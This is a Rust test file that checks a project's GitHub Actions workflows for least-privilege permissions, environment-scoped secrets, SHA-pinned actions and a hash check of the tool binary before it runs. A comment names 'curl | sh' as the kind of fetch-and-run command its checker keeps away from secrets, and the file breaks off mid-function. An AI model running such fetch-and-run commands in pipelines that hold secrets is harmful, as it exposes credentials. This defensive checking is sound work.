//! The GitHub workflows and the composite action (actionlint runs on them in
//! tests/services/actionlint.rs): the reusable pipeline's (pipeline.yml) jobs,
//! permissions, secrets and concurrency are what docs/github-actions.md promises, its
//! callers (this repository's image.yml and sweep.yml, and the README's example for
//! other repositories) call it as it needs; the action's scripts map inputs to flags and
//! install a release binary (checked) or fall back to a build from source.

use crate::common;

use std::collections::BTreeSet;
use std::process::Command;

use common::*;
use yaml_rust2::{Yaml, YamlEmitter, YamlLoader};

/// The reusable workflow: the image pipeline.
const PIPELINE: &str = ".github/workflows/pipeline.yml";
/// The caller workflow other repositories add, shown whole in the README.
const CALLER_EXAMPLE: &str = "tests/fixtures/workflows/caller.yml";
/// Where the jobs with secrets get them: the environment the caller names.
const ENVIRONMENT: &str = "${{ inputs.environment }}";

fn load(rel: &str) -> Yaml {
    let text = std::fs::read_to_string(repo().join(rel)).unwrap();
    YamlLoader::load_from_str(&text)
        .unwrap_or_else(|e| panic!("{rel}: {e}"))
        .remove(0)
}

fn keys(map: &Yaml) -> BTreeSet<String> {
    map.as_hash()
        .unwrap_or_else(|| panic!("not a mapping: {map:?}"))
        .keys()
        .map(|k| k.as_str().unwrap().to_string())
        .collect()
}

fn text_of(node: &Yaml) -> String {
    let mut out = String::new();
    YamlEmitter::new(&mut out).dump(node).unwrap();
    out
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// Every `uses:` value anywhere under `node`.
fn uses(node: &Yaml, found: &mut Vec<String>) {
    match node {
        Yaml::Hash(map) => {
            for (k, v) in map {
                if k.as_str() == Some("uses") {
                    found.push(v.as_str().unwrap().to_string());
                }
                uses(v, found);
            }
        }
        Yaml::Array(items) => items.iter().for_each(|i| uses(i, found)),
        _ => {}
    }
}

/// The events a workflow runs on.
fn events(wf: &Yaml) -> BTreeSet<String> {
    match &wf["on"] {
        Yaml::String(one) => set(&[one]),
        Yaml::Array(many) => many.iter().map(|e| e.as_str().unwrap().into()).collect(),
        map => keys(map),
    }
}

/// What a job's `permissions` grants, scope to level.
fn granted(job: &Yaml, name: &str) -> Vec<(String, String)> {
    job["permissions"]
        .as_hash()
        .unwrap_or_else(|| panic!("{name}: no permissions block"))
        .iter()
        .map(|(k, v)| (k.as_str().unwrap().into(), v.as_str().unwrap().into()))
        .collect()
}

#[test]
fn the_image_workflow_runs_on_pull_requests_pushes_dispatch_and_weekly() {
    let wf = load(".github/workflows/image.yml");
    let on = &wf["on"];
    assert_eq!(
        keys(on),
        set(&["pull_request", "push", "workflow_dispatch", "schedule"])
    );
    // Weekly: one day of the week, every week (max_age rebuilds stale images).
    let cron = on["schedule"][0]["cron"].as_str().unwrap();
    let fields: Vec<&str> = cron.split_whitespace().collect();
    assert_eq!(fields.len(), 5, "{cron}");
    assert!(
        fields[2] == "*" && fields[3] == "*" && fields[4].parse::<u8>().is_ok_and(|d| d < 7),
        "not weekly: {cron}"
    );
    let paths = |event: &str| -> Vec<String> {
        on[event]["paths"]
            .as_vec()
            .unwrap()
            .iter()
            .map(|p| p.as_str().unwrap().to_string())
            .collect()
    };
    assert!(paths("push").contains(&"provision/**".to_string()));
    // The reusable workflow is the pipeline: a change to it runs it.
    for event in ["push", "pull_request"] {
        assert!(paths(event).contains(&PIPELINE.to_string()), "{event}");
    }
    assert!(
        paths("pull_request").contains(&"provision/**".to_string())
            && paths("pull_request").contains(&"src/**".to_string())
    );
    // What a pull request runs on, its merge runs on too: a change to the tool's source
    // is compiled and used on main (docs/github-actions.md), not only in its check.
    let sorted = |event: &str| paths(event).into_iter().collect::<BTreeSet<_>>();
    assert_eq!(sorted("push"), sorted("pull_request"));
    for path in [
        "src/**",
        "Cargo.toml",
        "Cargo.lock",
        "action.yml",
        "action/**",
    ] {
        assert!(paths("push").contains(&path.to_string()), "push: {path}");
    }
    assert_eq!(on["push"]["branches"][0].as_str(), Some("main"));
    let inputs = &on["workflow_dispatch"]["inputs"];
    assert_eq!(keys(inputs), set(&["force", "target"]));
    assert_eq!(inputs["force"]["type"].as_str(), Some("boolean"));
    assert!(matches!(
        inputs["target"]["type"].as_str(),
        Some("string" | "choice")
    ));
    for file in workflow_files() {
        let text = std::fs::read_to_string(&file).unwrap();
        let wf = YamlLoader::load_from_str(&text).unwrap().remove(0);
        assert!(
            !events(&wf).contains("pull_request_target"),
            "{} runs on pull_request_target",
            file.display()
        );
    }
}

/// Where a caller of pipeline.yml does not call it as it needs: another `uses:`, a grant
/// below what the called jobs ask (GitHub refuses the whole run) or above it, secrets
/// passed by name (environment secrets cannot be) or spelled in the caller at all, no
/// `secrets: inherit` (the environment's secrets then arrive empty), an input the
/// pipeline does not have.
fn caller_violations(wf: &Yaml, expected_uses: &str) -> Vec<String> {
    let mut found = Vec::new();
    if text_of(wf).contains("secrets.") {
        found.push("the caller spells out secrets: they belong to the environment".into());
    }
    if !wf["permissions"].as_hash().is_some_and(|p| p.is_empty()) {
        found.push("the caller grants something workflow-wide".into());
    }
    let inputs = keys(&load(PIPELINE)["on"]["workflow_call"]["inputs"]);
    let calls: Vec<_> = wf["jobs"]
        .as_hash()
        .unwrap()
        .iter()
        .filter(|(_, job)| !job["uses"].is_badvalue())
        .collect();
    if calls.len() != 1 {
        found.push(format!("{} jobs call a workflow, not one", calls.len()));
    }
    for (name, job) in calls {
        let name = name.as_str().unwrap();
        if job["uses"].as_str() != Some(expected_uses) {
            found.push(format!(
                "{name}: uses {:?}, not {expected_uses}",
                job["uses"]
            ));
        }
        let grant: BTreeSet<_> = granted(job, name).into_iter().collect();
        let wanted: BTreeSet<_> = [("contents", "write"), ("pull-requests", "write")]
            .iter()
            .map(|(s, l)| (s.to_string(), l.to_string()))
            .collect();
        if grant != wanted {
            found.push(format!(
                "{name}: grants {grant:?}, not what the called jobs ask ({wanted:?})"
            ));
        }
        if job["secrets"].as_str() != Some("inherit") {
            found.push(format!(
                "{name}: no `secrets: inherit`: the environment's secrets arrive empty"
            ));
        }
        for input in keys(&job["with"]) {
            if !inputs.contains(&input) {
                found.push(format!("{name}: pipeline.yml has no input `{input}`"));
            }
        }
        if job["with"]["environment"]
            .as_str()
            .is_none_or(str::is_empty)
        {
            found.push(format!("{name}: no environment named"));
        }
    }
    found
}

#[test]
fn each_caller_calls_the_pipeline_with_inherit_and_the_grant_it_needs() {
    // This repository's own callers compile the tool from their checkout.
    for rel in [".github/workflows/image.yml", ".github/workflows/sweep.yml"] {
        let wf = load(rel);
        assert_eq!(
            caller_violations(&wf, "./.github/workflows/pipeline.yml"),
            Vec::<String>::new(),
            "{rel}"
        );
        let (_, job) = wf["jobs"].as_hash().unwrap().iter().next().unwrap();
        assert_eq!(keys(&wf["jobs"]).len(), 1, "{rel}: the call alone");
        assert_eq!(job["with"]["tool-version"].as_str(), Some("checkout"));
        assert_eq!(job["with"]["environment"].as_str(), Some("uworker-image"));
        assert_eq!(job["with"]["dir"].as_str(), Some("provision"));
    }
    let image = &load(".github/workflows/image.yml")["jobs"]["image"]["with"];
    assert_eq!(image["force"].as_str(), Some("${{ inputs.force == true }}"));
    assert_eq!(image["target"].as_str(), Some("${{ inputs.target || '' }}"));
    assert!(image["sweep"].is_badvalue());
    let sweep = &load(".github/workflows/sweep.yml")["jobs"]["sweep"]["with"];
    assert_eq!(sweep["sweep"].as_bool(), Some(true));

    // The example other repositories copy: a release of the pipeline, the tool of that
    // release (no tool-version), every event the pipeline serves.
    let example = load(CALLER_EXAMPLE);
    assert_eq!(
        caller_violations(
            &example,
            "OWNER/uworker-image/.github/workflows/pipeline.yml@vX.Y.Z"
        ),
        Vec::<String>::new()
    );
    assert_eq!(
        events(&example),
        set(&["pull_request", "push", "workflow_dispatch", "schedule"])
    );
    // What it calls keeps the secret boundary: no secret in a `uses:` step's env, none
    // at job or workflow level, none where something compiles.
    assert_eq!(
        secret_boundary_violations(&load(PIPELINE)),
        Vec::<String>::new()
    );
    let with = &example["jobs"]["image"]["with"];
    assert!(with["tool-version"].is_badvalue() && with["sweep"].is_badvalue());
    assert_eq!(with["force"], image["force"]);
    assert_eq!(with["target"], image["target"]);
    assert_eq!(
        keys(&example["on"]["workflow_dispatch"]["inputs"]),
        set(&["force", "target"])
    );
    let text = std::fs::read_to_string(repo().join(CALLER_EXAMPLE)).unwrap();
    assert!(
        text.lines().count() <= 30,
        "about 20 lines: {}",
        text.lines().count()
    );
    // Shown whole in the README's adoption section, which says why `secrets: inherit`.
    let readme = std::fs::read_to_string(repo().join("README.md")).unwrap();
    let section = readme
        .split("\n## Adopting the action\n")
        .nth(1)
        .and_then(|rest| rest.split("\n## ").next())
        .expect("README: ## Adopting the action");
    assert!(
        section.contains(&format!("```yaml\n{text}```\n")),
        "README's adoption section does not show {CALLER_EXAMPLE} whole"
    );
    assert!(section.contains("secrets: inherit"));
}

#[test]
fn each_caller_check_catches_its_breach() {
    let text = std::fs::read_to_string(repo().join(CALLER_EXAMPLE)).unwrap();
    let uses = "OWNER/uworker-image/.github/workflows/pipeline.yml@vX.Y.Z";
    for (from, to, violation) in [
        (
            "    secrets: inherit\n",
            "",
            "no `secrets: inherit`: the environment's secrets arrive empty",
        ),
        (
            "    secrets: inherit\n",
            "    secrets:\n      OS_AUTH_URL: ${{ secrets.OS_AUTH_URL }}\n",
            "the caller spells out secrets",
        ),
        (
            "{ contents: write, pull-requests: write }",
            "{ contents: write }",
            "not what the called jobs ask",
        ),
        (
            "permissions: {}\n",
            "permissions: write-all\n",
            "grants something workflow-wide",
        ),
        (
            "      dir: provision\n",
            "      directory: provision\n",
            "pipeline.yml has no input `directory`",
        ),
        (
            "      environment: uworker-image\n",
            "",
            "no environment named",
        ),
    ] {
        assert!(text.contains(from), "the example has no `{from}`");
        let wf = YamlLoader::load_from_str(&text.replacen(from, to, 1))
            .unwrap()
            .remove(0);
        let found = caller_violations(&wf, uses);
        assert!(
            found.iter().any(|f| f.contains(violation)),
            "no `{violation}` in {found:#?}"
        );
    }
}

#[test]
fn the_pipeline_is_reusable_and_does_by_event_what_the_issue_asks() {
    let wf = load(PIPELINE);
    assert_eq!(events(&wf), set(&["workflow_call"]));
    let inputs = &wf["on"]["workflow_call"]["inputs"];
    assert_eq!(
        keys(inputs),
        set(&[
            "dir",
            "environment",
            "packer-version",
            "force",
            "target",
            "tool-version",
            "sweep"
        ])
    );
    assert_eq!(inputs["force"]["type"].as_str(), Some("boolean"));
    assert_eq!(inputs["sweep"]["type"].as_str(), Some("boolean"));
    assert_eq!(inputs["dir"]["default"].as_str(), Some("provision"));
    assert_eq!(
        inputs["environment"]["default"].as_str(),
        Some("uworker-image")
    );
    // The packer version the action defaults to: the one the test suite runs.
    assert_eq!(
        inputs["packer-version"]["default"],
        load("action.yml")["inputs"]["packer-version"]["default"]
    );
    assert!(
        wf["on"]["workflow_call"]["secrets"].is_badvalue(),
        "environment secrets are not passed by name"
    );
    assert_eq!(
        wf["env"]["UWORKER_IMAGE_DIR"].as_str(),
        Some("${{ inputs.dir }}")
    );
    let job_if = |job: &str| {
        wf["jobs"][job]["if"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    // Pull requests: the targets, then validate and plan (with the comment) per target.
    assert!(
        job_if("pr-targets").starts_with("github.event_name == 'pull_request' && !inputs.sweep")
    );
    let check: String = wf["jobs"]["pr-check"]["steps"]
        .as_vec()
        .unwrap()
        .iter()
        .filter_map(|s| s["run"].as_str())
        .collect();
    for command in [
        "exec uworker-image validate --target \"$MATRIX_TARGET\" --without-secrets",
        "exec \"$tool\" plan --target \"$MATRIX_TARGET\"",
    ] {
        assert!(check.contains(command), "pr-check: no `{command}`");
    }
    // Every other event: plan, then build, release, prune, the sweep after a failure.
    assert!(job_if("plan").starts_with("github.event_name != 'pull_request' && !inputs.sweep"));
    for (job, needs) in [
        ("build", "plan"),
        ("release", "build"),
        ("prune", "build"),
        ("sweep-after-build", "build"),
    ] {
        assert!(
            text_of(&wf["jobs"][job]["needs"]).contains(needs),
            "{job} needs {needs}"
        );
    }
    // Input `sweep`: the tool and the sweep, nothing else (the jobs after plan and
    // pr-targets follow them).
    assert_eq!(job_if("sweep"), "inputs.sweep");
    for (name, job) in wf["jobs"].as_hash().unwrap() {
        let name = name.as_str().unwrap();
        if name == "sweep" {
            continue;
        }
        if ["tool-release", "tool"].contains(&name) {
            assert!(
                !job_if(name).contains("inputs.sweep"),
                "{name} runs in every mode"
            );
            continue;
        }
        let needs = text_of(&job["needs"]);
        assert!(
            job_if(name).contains("!inputs.sweep")
                || needs.contains("plan")
                || needs.contains("pr-targets")
                || name == "sweep-after-build",
            "{name}: runs on a sweep"
        );
    }
}

#[test]
fn each_pipeline_job_has_least_privilege_and_secrets_only_in_the_environment() {
    let wf = load(PIPELINE);
    assert!(
        wf["permissions"].as_hash().is_some_and(|p| p.is_empty()),
        "the workflow grants nothing by default"
    );
    assert!(
        !text_of(&wf["env"]).contains("secrets."),
        "no secrets at workflow level"
    );
    let jobs = wf["jobs"].as_hash().unwrap();
    assert_eq!(
        keys(&wf["jobs"]),
        set(&[
            "tool-release",
            "tool",
            "pr-targets",
            "pr-check",
            "plan",
            "build",
            "copy",
            "release",
            "prune",
            "sweep-after-build",
            "sweep"
        ])
    );
    for (name, job) in jobs {
        let name = name.as_str().unwrap();
        let granted = granted(job, name);
        for (scope, level) in &granted {
            let allowed = match (scope.as_str(), level.as_str()) {
                ("contents", "read") => true,
                ("contents", "write") => name == "release",
                ("pull-requests", "write") => name == "pr-check",
                _ => false,
            };
            assert!(allowed, "{name}: {scope}: {level}");
        }
        assert!(job["uses"].is_badvalue(), "{name}: no nested workflow");
        assert!(job["timeout-minutes"].as_i64().is_some(), "{name}: timeout");

        let environment = job["environment"].as_str();
        let holds_secrets = text_of(job).contains("secrets.");
        if holds_secrets {
            assert_eq!(environment, Some(ENVIRONMENT), "{name}");
        }
        let writes = granted.iter().any(|(_, level)| level == "write");
        if writes || name.starts_with("pr-") || name.starts_with("tool") {
            assert!(
                !holds_secrets && environment.is_none(),
                "{name}: a job with a write token, on pull requests or for the tool holds no secrets"
            );
        }
    }
    // Secrets reach only the steps that run the tool (secret_boundary_violations checks
    // every workflow); the fingerprint depends on the secrets present, so plan, build and
    // prune see the same ones.
    let tool_env = |job: &str, command: &str| -> Yaml {
        let steps = wf["jobs"][job]["steps"].as_vec().unwrap();
        let holding: Vec<_> = steps
            .iter()
            .filter(|step| text_of(step).contains("secrets."))
            .collect();
        assert_eq!(holding.len(), 1, "{job}: one step holds the secrets");
        let script = holding[0]["run"].as_str().unwrap_or_default();
        assert!(
            script.contains(&format!("args=({command}")),
            "{job}: the secrets' step runs `{command}`: {script}"
        );
        holding[0]["env"].clone()
    };
    let plan_env = tool_env("plan", "matrix");
    assert!(keys(&plan_env).contains("UWORKER_FINGERPRINT_KEY"));
    assert!(keys(&plan_env).contains("OS_APPLICATION_CREDENTIAL_SECRET"));
    assert_eq!(
        tool_env("build", "build"),
        plan_env,
        "build: the inputs of plan"
    );
    assert_eq!(
        tool_env("prune", "prune"),
        plan_env,
        "prune: the inputs of plan"
    );
    for (name, job) in jobs {
        assert!(
            !text_of(&job["env"]).contains("secrets."),
            "{}: secrets at job level",
            name.as_str().unwrap()
        );
    }
}

#[test]
fn builds_run_per_target_from_the_plan_never_racing_and_long_enough() {
    let wf = load(PIPELINE);
    let build = &wf["jobs"]["build"];
    assert_eq!(text_of(&build["needs"]), "---\n- tool\n- plan");
    assert_eq!(
        build["if"].as_str(),
        Some("fromJSON(needs.plan.outputs.matrix).include[0] != null"),
        "no build job for an empty matrix, which GitHub refuses"
    );
    assert_eq!(
        build["strategy"]["matrix"].as_str(),
        Some("${{ fromJSON(needs.plan.outputs.matrix) }}")
    );
    assert_eq!(build["strategy"]["fail-fast"].as_bool(), Some(false));
    let concurrency = &build["concurrency"];
    assert!(concurrency["group"]
        .as_str()
        .unwrap()
        .contains("${{ matrix.target }}"));
    assert_eq!(concurrency["cancel-in-progress"].as_bool(), Some(false));
    // The tool's deadline (4h) and its cleanup fit; GitHub-hosted jobs end at 6h.
    let minutes = build["timeout-minutes"].as_i64().unwrap();
    assert!((245..=360).contains(&minutes), "{minutes}");
    let build_step = build["steps"]
        .as_vec()
        .unwrap()
        .iter()
        .find(|step| step["id"].as_str() == Some("build"))
        .expect("a build step");
    assert_eq!(build["env"]["UWORKER_IMAGE_TIMEOUT"].as_str(), Some("4h"));
    let script = build_step["run"].as_str().unwrap();
    assert!(
        script.contains("args=(build --target \"$BUILD_TARGET\"") && script.contains(EXEC_THE_TOOL),
        "{script}"
    );

    // The plan job asks `matrix --needs-build` unless forced.
    let plan = runs_of(&wf["jobs"]["plan"]);
    assert!(
        plan.contains("args=(matrix --copies-out \"$RUNNER_TEMP/copies.json\")")
            && plan.contains("[ \"$FORCE_BUILD\" = true ] || args+=(--needs-build)"),
        "{plan}"
    );
    // Two pushes must not cancel a build; only pull request checks are cancelled.
    for rel in [
        PIPELINE,
        ".github/workflows/image.yml",
        ".github/workflows/sweep.yml",
    ] {
        assert!(
            load(rel)["concurrency"].is_badvalue(),
            "{rel}: no workflow-wide cancellation"
        );
    }
    assert_eq!(
        wf["jobs"]["pr-check"]["concurrency"]["cancel-in-progress"].as_bool(),
        Some(true)
    );
}

/// The `run` scripts of a job's steps, one after the other.
fn runs_of(job: &Yaml) -> String {
    job["steps"]
        .as_vec()
        .unwrap()
        .iter()
        .filter_map(|step| step["run"].as_str())
        .collect()
}

#[test]
fn copies_run_after_the_builds_from_the_plans_second_matrix() {
    let wf = load(PIPELINE);
    let plan = &wf["jobs"]["plan"];
    assert_eq!(
        plan["outputs"]["copies"].as_str(),
        Some("${{ steps.matrix.outputs.copies }}")
    );
    let plan_runs = runs_of(plan);
    assert!(
        plan_runs.contains("args=(matrix --copies-out \"$RUNNER_TEMP/copies.json\")")
            && plan_runs.contains(
                "echo \"copies=$(cat \"$RUNNER_TEMP/copies.json\")\" >>\"$GITHUB_OUTPUT\""
            ),
        "{plan_runs}"
    );
    let copy = &wf["jobs"]["copy"];
    // After the build legs, which make the sources; not after a failed or cancelled one.
    assert_eq!(text_of(&copy["needs"]), "---\n- tool\n- plan\n- build");
    let cond = copy["if"].as_str().unwrap();
    for part in [
        "always() && ",
        "needs.plan.result == 'success'",
        "(needs.build.result == 'success' || needs.build.result == 'skipped')",
        "fromJSON(needs.plan.outputs.copies).include[0] != null",
    ] {
        assert!(cond.contains(part), "copy: {cond}");
    }
    assert_eq!(
        copy["strategy"]["matrix"].as_str(),
        Some("${{ fromJSON(needs.plan.outputs.copies) }}")
    );
    assert_eq!(copy["strategy"]["fail-fast"].as_bool(), Some(false));
    assert_eq!(
        copy["concurrency"]["group"].as_str(),
        wf["jobs"]["build"]["concurrency"]["group"].as_str(),
        "one build or copy of a target at a time"
    );
    // Its record is released, and prune waits for it.
    for job in ["release", "prune", "sweep-after-build"] {
        assert!(
            text_of(&wf["jobs"][job]["needs"]).contains("- copy"),
            "{job} needs copy"
        );
    }
    let release = wf["jobs"]["release"]["if"].as_str().unwrap();
    assert!(
        release.contains("needs.copy.result != 'skipped'"),
        "{release}"
    );
    let upload = copy["steps"]
        .as_vec()
        .unwrap()
        .iter()
        .find(|s| s["with"]["name"].as_str() == Some("record-${{ matrix.target }}"));
    assert!(upload.is_some(), "copy: uploads its record");
}

/// The `sweep` step of a job: its `run` text. It holds the cloud credentials only and
/// execs the tool; every step that is not it holds no secret.
fn sweep_step(job: &Yaml, name: &str) -> String {
    assert_eq!(job["environment"].as_str(), Some(ENVIRONMENT), "{name}");
    let steps = job["steps"].as_vec().unwrap();
    let step = steps
        .iter()
        .find(|s| {
            s["run"]
                .as_str()
                .is_some_and(|r| r.contains(EXEC_THE_TOOL) && r.contains("args=(sweep"))
        })
        .unwrap_or_else(|| panic!("{name}: no step that execs the tool with `args=(sweep`"));
    for other in steps.iter().filter(|s| *s != step) {
        assert!(
            !text_of(other).contains("secrets."),
            "{name}: secrets outside sweep"
        );
    }
    assert_eq!(
        keys(&step["env"]),
        set(&[
            "OS_AUTH_URL",
            "OS_APPLICATION_CREDENTIAL_ID",
            "OS_APPLICATION_CREDENTIAL_SECRET",
            "OS_REGION_NAME"
        ]),
        "{name}: the cloud credentials, no worker secret"
    );
    step["run"].as_str().unwrap().to_string()
}

#[test]
fn the_release_runs_after_a_failed_or_cancelled_build_leg_but_never_on_pull_request() {
    // One cancelled leg marks the whole matrix cancelled; the targets that built must
    // still be released, or the next plan skips them (their image exists).
    let wf = load(PIPELINE);
    let job = &wf["jobs"]["release"];
    let cond = job["if"].as_str().unwrap_or_default();
    assert!(cond.starts_with("always() && "), "release: {cond}");
    assert!(!cond.contains("cancelled"), "release: {cond}");
    assert!(
        !cond.contains("needs.build.result == 'success'"),
        "release: {cond}"
    );
    assert!(
        cond.contains("github.event_name != 'pull_request'"),
        "release: {cond}"
    );
    assert!(
        cond.contains("needs.plan.result == 'success'"),
        "release: {cond}"
    );
    assert!(
        cond.contains("needs.build.result != 'skipped'"),
        "release: {cond}"
    );
    // It releases whatever records the legs left.
    assert!(
        job["steps"]
            .as_vec()
            .unwrap()
            .iter()
            .any(|s| s["with"]["pattern"].as_str() == Some("record-*")),
        "release: downloads every record"
    );
}

#[test]
fn dead_runs_are_swept_after_a_failed_or_cancelled_build_and_every_day() {
    // After the build job of a run failed or was cancelled: that run's leftovers, at once.
    let pipeline = load(PIPELINE);
    let job = &pipeline["jobs"]["sweep-after-build"];
    let needs: Vec<&str> = job["needs"]
        .as_vec()
        .unwrap()
        .iter()
        .filter_map(Yaml::as_str)
        .collect();
    assert!(needs.contains(&"build"), "{needs:?}");
    assert!(
        job["if"]
            .as_str()
            .is_some_and(|c| c.contains("(failure() || cancelled())")
                // A cancelled pull request must not reach the environment's secrets.
                && c.starts_with("github.event_name != 'pull_request' && ")),
        "{:?}",
        job["if"]
    );
    assert_eq!(job["env"]["RUN_ID"].as_str(), Some("${{ github.run_id }}"));
    let run = sweep_step(job, "sweep-after-build");
    assert!(
        run.contains(r#"sweep --run "$RUN_ID" --older-than 0s"#),
        "{run}"
    );

    // Every day (sweep.yml calls the pipeline with input `sweep`): everything older than
    // the build deadline plus its grace.
    let daily = load(".github/workflows/sweep.yml");
    assert_eq!(keys(&daily["on"]), set(&["schedule", "workflow_dispatch"]));
    let cron = daily["on"]["schedule"][0]["cron"].as_str().unwrap();
    assert_eq!(
        cron.split_whitespace().collect::<Vec<_>>()[2..],
        ["*", "*", "*"]
    );
    assert!(daily["permissions"].as_hash().is_some_and(|p| p.is_empty()));
    let job = &pipeline["jobs"]["sweep"];
    assert_eq!(
        keys(&job["permissions"]),
        set(&["contents"]),
        "read-only token"
    );
    assert_eq!(job["permissions"]["contents"].as_str(), Some("read"));
    assert!(job["timeout-minutes"].as_i64().is_some());
    assert_eq!(
        job["concurrency"]["cancel-in-progress"].as_bool(),
        Some(false)
    );
    let run = sweep_step(job, "sweep");
    assert!(
        !run.contains("--older-than") && !run.contains("--run"),
        "the default limit: {run}"
    );
    // The same deadline as the builds it must never touch.
    assert_eq!(
        job["env"]["UWORKER_IMAGE_TIMEOUT"],
        pipeline["jobs"]["build"]["env"]["UWORKER_IMAGE_TIMEOUT"]
    );
}

#[test]
fn every_action_is_pinned_to_a_commit() {
    let mut files = workflow_files();
    files.push(repo().join("action.yml"));
    for file in files {
        let rel = file.strip_prefix(repo()).unwrap().display().to_string();
        let mut found = Vec::new();
        uses(&load(&rel), &mut found);
        assert!(!found.is_empty(), "{rel}");
        for reference in found {
            // This repository's own action and workflows, at the run's commit.
            if reference.starts_with("./") {
                continue;
            }
            let (_, sha) = reference
                .split_once('@')
                .unwrap_or_else(|| panic!("{rel}: {reference} has no version"));
            assert!(
                sha.len() == 40 && sha.chars().all(|c| c.is_ascii_hexdigit()),
                "{rel}: {reference} is not pinned to a commit"
            );
        }
    }
}
#[test]
fn ci_runs_fmt_clippy_the_test_command_and_the_linters() {
    let ci = text_of(&load(".github/workflows/ci.yml"));
    for step in [
        "cargo fmt --all -- --check",
        "cargo clippy --locked --all-targets --all-features -- -D warnings",
        "scripts/test.sh",
        "cargo test --locked\n",
        "cargo test --locked --features services --test services -- actionlint shell_scripts",
    ] {
        assert!(ci.contains(step), "ci.yml lacks `{step}`");
    }
    // A filter that names no module runs nothing and passes: the two must exist.
    let services = std::fs::read_to_string(repo().join("tests/services/main.rs")).unwrap();
    for module in ["mod actionlint;", "mod shell_scripts;"] {
        assert!(services.contains(module), "tests/services lacks `{module}`");
    }
}

#[test]
fn releases_carry_the_binaries_the_action_installs() {
    let wf = load(".github/workflows/release.yml");
    assert_eq!(keys(&wf["on"]), set(&["push"]));
    assert_eq!(wf["on"]["push"]["tags"][0].as_str(), Some("v*"));
    let targets: Vec<_> = wf["jobs"]["binary"]["strategy"]["matrix"]["target"]
        .as_vec()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    assert_eq!(
        targets,
        ["x86_64-unknown-linux-gnu", "x86_64-unknown-linux-musl"]
    );
    // What it uploads is what scripts/package-release.sh makes, which the install
    // tests below serve to action/install.sh.
    let text = std::fs::read_to_string(repo().join(".github/workflows/release.yml")).unwrap();
    assert!(text.contains(
        "scripts/package-release.sh \"target/$TARGET/release/uworker-image\" \"$TARGET\" dist"
    ));
    assert!(text.contains("gh release upload \"$TAG\" dist/*\n"));
    assert_eq!(release_violations(&wf), Vec::<String>::new());
    let install = std::fs::read_to_string(repo().join("action/install.sh")).unwrap();
    assert!(install.contains("asset=uworker-image-x86_64-unknown-linux-musl.tar.gz"));
}

#[test]
fn every_action_input_reaches_the_scripts() {
    let action = load("action.yml");
    assert_eq!(action["runs"]["using"].as_str(), Some("composite"));
    let steps = text_of(&action["runs"]["steps"]);
    for input in keys(&action["inputs"]) {
        assert!(
            steps.contains(&format!("inputs.{input} }}}}")),
            "input `{input}` is not used"
        );
    }
    // What a step with secrets checks the binary against (docs/github-actions.md: "Using
    // it from another repository"): the hash of the binary install.sh checked, taken in the
    // same step.
    assert_eq!(
        action["outputs"]["sha256"]["value"].as_str(),
        Some("${{ steps.install.outputs.sha256 }}")
    );
    let install = action["runs"]["steps"]
        .as_vec()
        .unwrap()
        .iter()
        .find(|s| s["id"].as_str() == Some("install"))
        .unwrap();
    assert!(install["run"]
        .as_str()
        .unwrap()
        .contains("echo \"sha256=$(sha256sum \"$path\" | cut -d' ' -f1)\" >>\"$GITHUB_OUTPUT\""));
}

// ---- secrets only where the tool runs; the binary is the one built ------------------

/// Words of a script that compiles or installs the tool from source.
const COMPILES: [&str; 7] = [
    "cargo build",
    "cargo install",
    "cargo test",
    "cargo run",
    "rustup",
    "rustc",
    "install.sh",
];

fn step_label(step: &Yaml) -> String {
    let name = step["name"].as_str().or(step["id"].as_str());
    let what = match (step["uses"].as_str(), step["run"].as_str()) {
        (Some(uses), _) => format!("uses: {uses}"),
        (None, Some(run)) => format!("run: {}", run.lines().next().unwrap_or_default()),
        _ => "?".into(),
    };
    match name {
        Some(name) => format!("`{name}` ({what})"),
        None => format!("`{what}`"),
    }
}

/// The end of every step that holds secrets or a write token: the binary on PATH is
/// hashed again against what job `tool` built (checkout, download-artifact and
/// setup-packer ran earlier in the job, and PATH is theirs to change), then exec'd by the
/// path that was hashed. `sha256sum` by its path: PATH may lead to another.
const CHECK_THE_TOOL: [&str; 3] = [
    "tool=$(command -v uworker-image)",
    // A function of that name, or a relative PATH entry, is no path to hash: `exec`
    // would run another file than the one checked.
    r#"[[ $tool == /* ]]"#,
    r#"/usr/bin/sha256sum --check --strict --quiet <<<"$TOOL_SHA256  $tool""#,
];
const EXEC_THE_TOOL: &str = r#"exec "$tool" "${args[@]}""#;
/// Where job `tool`'s hash reaches those steps (their job's env).
const TOOL_SHA256: &str = "${{ needs.tool.outputs.sha256 }}";
/// How every job of the pipeline after `tool` puts the run's binary on PATH: the
/// artifact, checked against job `tool`'s SHA-256 (a composite action would do the same
/// but `uses: ./` in a called workflow is the caller's checkout).
const INSTALL_THE_TOOL: &str = r#"install -D -m 0755 "$RUNNER_TEMP/tool/uworker-image" "$RUNNER_TEMP/bin/uworker-image"
/usr/bin/sha256sum --check --strict --quiet <<<"$TOOL_SHA256  $RUNNER_TEMP/bin/uworker-image"
echo "$RUNNER_TEMP/bin" >>"$GITHUB_PATH"
"#;

/// What is wrong with a step that holds secrets, if anything. It does nothing but run the
/// tool: lines that build its arguments (`args=(...)`, `[ ... ] || args+=(...)`), the
/// check of the binary, then `exec` of it as its last command, so nothing else (an
/// installer, `curl | sh`) runs with them and the runner's cancel reaches the tool.
fn secret_step_fault(script: &str) -> Option<&'static str> {
    let lines: Vec<&str> = script
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect();
    // `args=(...)` or `[ TEST ] || args+=(...)`, and nothing else: no other command
    // chained in (`&&`, `;`, `&`, a pipe), no substitution, no redirection.
    let builds_args = |l: &&str| {
        let rest = match l.strip_prefix("args=(") {
            Some(rest) => rest,
            None => match l
                .strip_prefix("[ ")
                .and_then(|t| t.split_once(" ] || args+=("))
            {
                Some((test, rest)) if !has_shell_operator(test) => rest,
                _ => return false,
            },
        };
        rest.strip_suffix(')')
            .is_some_and(|inner| !has_shell_operator(inner) && !inner.contains(['(', ')']))
    };
    const NO_EXEC: &str = "holds secrets but does not only `exec` the checked uworker-image";
    let Some((last, before)) = lines.split_last() else {
        return Some(NO_EXEC);
    };
    const UNCHECKED: &str =
        "holds secrets but does not hash uworker-image again before it execs it";
    if last.starts_with("exec uworker-image ") {
        return Some(UNCHECKED);
    }
    // The exec, alone; at most its output sent to a file of the runner's temp dir.
    let redirect = last.strip_prefix(EXEC_THE_TOOL).map(str::trim);
    let exec_alone = match redirect {
